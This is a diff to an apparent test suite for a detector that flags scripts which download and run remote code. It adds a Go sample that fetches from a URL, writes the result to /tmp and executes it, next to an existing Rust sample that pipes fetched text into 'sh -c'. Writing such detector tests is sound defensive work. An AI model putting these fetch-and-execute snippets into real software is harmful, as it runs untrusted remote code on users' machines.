@@ -46,6 +46,11 @@ describe("a download that a script runs is reported:", () => {
       [`6  ${runs}`],
     ],
     [
+      "Go, copied into an open file, beyond another",
+      `package main\nfunc main() {\n  r, _ := http.Get("${url}")\n  f, _ := os.Create("/tmp/a")\n  os.WriteFile("/tmp/b", text, 0644)\n  io.Copy(f, r.Body)\n  exec.Command("/tmp/a").Start()\n}`,
+      [`7  ${runs}`],
+    ],
+    [
       "Rust",
       `fn main() {\n  let b = reqwest::blocking::get("${url}").unwrap().text().unwrap();\n  Command::new("sh").arg("-c").arg(b).spawn();\n}`,
       [`3  ${runs}`],
